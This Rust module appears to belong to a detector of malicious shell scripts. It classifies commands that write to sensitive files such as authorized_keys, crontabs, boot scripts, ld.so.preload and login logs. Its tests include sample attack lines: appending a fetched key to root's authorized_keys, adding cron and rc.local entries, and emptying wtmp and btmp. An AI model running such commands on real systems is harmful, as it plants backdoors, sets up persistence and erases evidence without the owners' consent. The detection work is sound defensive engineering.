//! Files that decide who may use the machine and what it runs, and the commands that write to them.

use super::commands::{Commands, Role};
use super::escape::unescape;
use super::fetch::{Product, fetch};
use super::options::arguments;
use super::text::{Bytes, basename, is_one_of, one_of};
use crate::limits::WORD_BYTES;

/// What a file decides.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Target {
    /// Who may log in with a key.
    Keys,
    /// Who may log in.
    Accounts,
    /// What every program loads.
    Preload,
    /// What the clock or the kernel starts.
    Jobs,
    /// The same when a program crashes, if a pipe begins it (core(5)); else a name for files.
    Core,
    /// What is started at boot: one file that many edit.
    Startup,
    /// The same, a directory of files.
    StartupFolder,
    /// Who resolves names.
    Resolver,
    /// What names mean.
    Hosts,
    /// Who logged in.
    Logins,
    /// What restarts the machine when it hangs.
    Watchdog,
}

/// Paths, or what they begin with if they end in a slash.
const TARGETS: [(&[u8], Target); 40] = [
    (b"/etc/passwd", Target::Accounts),
    (b"/etc/shadow", Target::Accounts),
    (b"/etc/ld.so.preload", Target::Preload),
    (b"/etc/crontab", Target::Jobs),
    (b"/etc/crontabs/", Target::Jobs),
    (b"/etc/cron.d/", Target::Jobs),
    (b"/var/spool/cron/", Target::Jobs),
    (b"/etc/storage/cron/", Target::Jobs),
    (b"/proc/sys/kernel/modprobe", Target::Jobs),
    (b"/proc/sys/kernel/hotplug", Target::Jobs),
    (b"/sys/kernel/uevent_helper", Target::Jobs),
    (b"/proc/sys/kernel/core_pattern", Target::Core),
    (b"/etc/rc.local", Target::Startup),
    (b"/etc/inittab", Target::Startup),
    (b"/etc/profile", Target::Startup),
    (b"/etc/rc.d/rc.local", Target::Startup),
    (b"/etc/init.d/rcS", Target::Startup),
    (b"/etc/init.d/", Target::StartupFolder),
    (b"/etc/rc.d/", Target::StartupFolder),
    (b"/etc/rcS.d/", Target::StartupFolder),
    (b"/etc/rc2.d/", Target::StartupFolder),
    (b"/etc/rc3.d/", Target::StartupFolder),
    (b"/etc/rc5.d/", Target::StartupFolder),
    (b"/etc/profile.d/", Target::StartupFolder),
    (b"/etc/hotplug.d/", Target::StartupFolder),
    (b"/etc/uci-defaults/", Target::StartupFolder),
    (b"/etc/cron.hourly/", Target::StartupFolder),
    (b"/etc/cron.daily/", Target::StartupFolder),
    (b"/etc/systemd/system/", Target::StartupFolder),
    (b"/jffs/scripts/", Target::StartupFolder),
    (b"/etc/resolv.conf", Target::Resolver),
    (b"/tmp/resolv.conf", Target::Resolver),
    (b"/etc/hosts", Target::Hosts),
    (b"/var/log/wtmp", Target::Logins),
    (b"/var/log/btmp", Target::Logins),
    (b"/var/log/lastlog", Target::Logins),
    (b"/var/log/auth.log", Target::Logins),
    (b"/var/log/secure", Target::Logins),
    (b"/dev/watchdog", Target::Watchdog),
    (b"/dev/watchdog0", Target::Watchdog),
];

/// What a path decides, if it is such a file.
#[must_use]
pub fn target(path: &[u8]) -> Option<Target> {
    if is_one_of(basename(path), b"authorized_keys authorized_keys2") {
        return Some(Target::Keys);
    }
    let is = |known: &[u8]| if known.ends_with(b"/") { path.starts_with(known) } else { path == known };
    TARGETS.iter().find(|(known, _)| is(known)).map(|(_, target)| *target)
}

/// What a command writes into such a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Content<'a> {
    /// What this command prints: itself, or one that feeds it.
    Printed(u16),
    /// A here-document, line by line elsewhere.
    HereDocument,
    /// This file.
    Copy(&'a [u8]),
    /// Something from the network.
    Fetched,
    /// Nothing: the file is emptied.
    Nothing,
    /// Something.
    Unknown,
}

/// A write to such a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Write<'a> {
    /// What the file decides.
    pub target: Target,
    /// What goes there.
    pub content: Content<'a>,
}

/// What a command writes to a file that matters.
#[must_use]
pub fn write(commands: &Commands, command: u16) -> Option<Write<'_>> {
    let operands = || arguments(commands, command).filter(|word| word.first() != Some(&b'-'));
    let name = commands.name(command);
    if let Some(target) = commands.words(command, Role::Output).find_map(target)
        && fetch(commands, command).is_none()
    {
        return Some(Write { target, content: output(commands, command) });
    }
    if let Some(Product::File(file)) = fetch(commands, command)
        && let Some(target) = target(file)
    {
        return Some(Write { target, content: Content::Fetched });
    }
    let is = one_of(name);
    match name {
        b"tee" => Some(Write { target: operands().find_map(target)?, content: fed(commands, command) }),
        _ if is(b"crontab")
            && (operands().next().is_none() && arguments(commands, command).all(|word| word == b"-")) =>
        {
            Some(Write { target: Target::Jobs, content: fed(commands, command) })
        }
        b"dd" => {
            let value = |key: &[u8]| operands().find_map(|word| word.strip_prefix(key));
            Some(Write { target: target(value(b"of=")?)?, content: Content::Copy(value(b"if=")?) })
        }
        b"cru" => Some(Write { target: Target::Jobs, content: Content::Printed(command) }),
        b"sed" if arguments(commands, command).any(|word| word.starts_with(b"-i")) => {
            Some(Write { target: target(operands().last()?)?, content: Content::Printed(command) })
        }
        _ if is(b"cp mv ln install") => {
            // The mode of `install -m 755` stands before both.
            let (mut from, mut to) = (None, None);
            operands().for_each(|word| (from, to) = (to, Some(word)));
            let (from, to) = (from?, to?);
            Some(Write { target: target(to)?, content: Content::Copy(from) }).filter(|_| from != to)
        }
        _ => None,
    }
}

/// What a command with a redirection writes.
fn output(commands: &Commands, command: u16) -> Content<'_> {
    let mut operands = arguments(commands, command).filter(|word| word.first() != Some(&b'-'));
    match (commands.name(command), operands.next()) {
        (b"echo" | b"printf", Some(_)) => Content::Printed(command),
        (b"" | b":" | b"true" | b"echo" | b"printf", _) | (b"cat", Some(b"/dev/null")) => Content::Nothing,
        (b"cat", Some(file)) => Content::Copy(file),
        (b"cat", None) if commands.words(command, Role::HereDocument).next().is_some() => {
            Content::HereDocument
        }
        _ => fed(commands, command),
    }
}

/// What a pipe brings: the last command that prints something.
fn fed(commands: &Commands, command: u16) -> Content<'_> {
    let prints = |from: &u16| is_one_of(commands.name(*from), b"echo printf");
    commands.feeders(command).filter(prints).last().map_or(Content::Unknown, Content::Printed)
}

/// The text that a command prints, its escapes resolved, one word behind the other.
pub fn printed(commands: &Commands, command: u16) -> Bytes<WORD_BYTES> {
    let mut text = Bytes::new();
    for word in arguments(commands, command) {
        unescape(word, &mut |byte, _| text.push(&[byte]));
        text.push(b" ");
    }
    text
}

/// The text that an order of sed puts into a file: `/exit 0/i TEXT`, `$a TEXT`, `s#exit 0#TEXT#` (sed(1)).
#[must_use]
pub fn inserted(order: &[u8]) -> Option<&[u8]> {
    if order.first() == Some(&b'-') {
        return None;
    }
    if let [b's', by, rest @ ..] = order
        && by.is_ascii_punctuation()
    {
        return rest.split(|b| b == by).nth(1);
    }
    let ends = |part: &[u8]| matches!(part, [b'/' | b'$' | b'0'..=b'9', b'i' | b'a', b' ' | b'\\']);
    let at = order.windows(3).position(ends)?;
    order.get(at.saturating_add(3)..).map(|text| text.strip_prefix(b"\\").unwrap_or(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_written_where() {
        for (text, expected) in [
            (&b"echo x >> /etc/crontabs/root"[..], Some((Target::Jobs, Content::Printed(0)))),
            (b"(crontab -l; echo x) | crontab -", Some((Target::Jobs, Content::Printed(1)))),
            (b"cru a x '* * * * * y'", Some((Target::Jobs, Content::Printed(0)))),
            (
                b"curl http://192.0.2.1/k >> /root/.ssh/authorized_keys",
                Some((Target::Keys, Content::Fetched)),
            ),
            (b"echo x | tee -a /root/.ssh/authorized_keys", Some((Target::Keys, Content::Printed(0)))),
            (b"cat >> /etc/dropbear/authorized_keys <<E", Some((Target::Keys, Content::HereDocument))),
            (b"cp /tmp/x /etc/init.d/S99x", Some((Target::StartupFolder, Content::Copy(b"/tmp/x")))),
            (b"cat $0 > /etc/init.d/x", Some((Target::StartupFolder, Content::Copy(b"$0")))),
            (b"sed -i '/exit 0/i x' /etc/rc.local", Some((Target::Startup, Content::Printed(0)))),
            (b"> /var/log/wtmp", Some((Target::Logins, Content::Nothing))),
            (b"cat /dev/null > /var/log/btmp", Some((Target::Logins, Content::Nothing))),
            (b"grep -v x /etc/hosts > /etc/hosts", Some((Target::Hosts, Content::Unknown))),
            (b"crontab -l", None),
            (b"crontab /etc/x", None),
            (b"cat /etc/passwd", None),
            (b"cp /etc/passwd /tmp/x", None),
            (b"echo x > /etc/rc.local.d", None),
        ] {
            let mut commands = Commands::new();
            commands.parse(text);
            let found = commands.iter().find_map(|(index, _)| write(&commands, index));
            let found = found.map(|write| (write.target, write.content));
            assert_eq!(found, expected, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_sed_puts_into_a_file() {
        for (order, expected) in [
            (&b"/exit 0/i /tmp/x &"[..], Some(&b"/tmp/x &"[..])),
            (b"/^exit 0/i\\/tmp/x", Some(b"/tmp/x")),
            (b"$a /tmp/x", Some(b"/tmp/x")),
            (b"1i /tmp/x", Some(b"/tmp/x")),
            (b"s|/tmp/a|/usr/b|", Some(b"/usr/b")),
            (b"s#exit 0#/tmp/x; exit 0#", Some(b"/tmp/x; exit 0")),
            (b"start", None),
            (b"/x/d", None),
            (b"-i", None),
        ] {
            assert_eq!(inserted(order), expected, "{}", String::from_utf8_lossy(order));
        }
    }
}
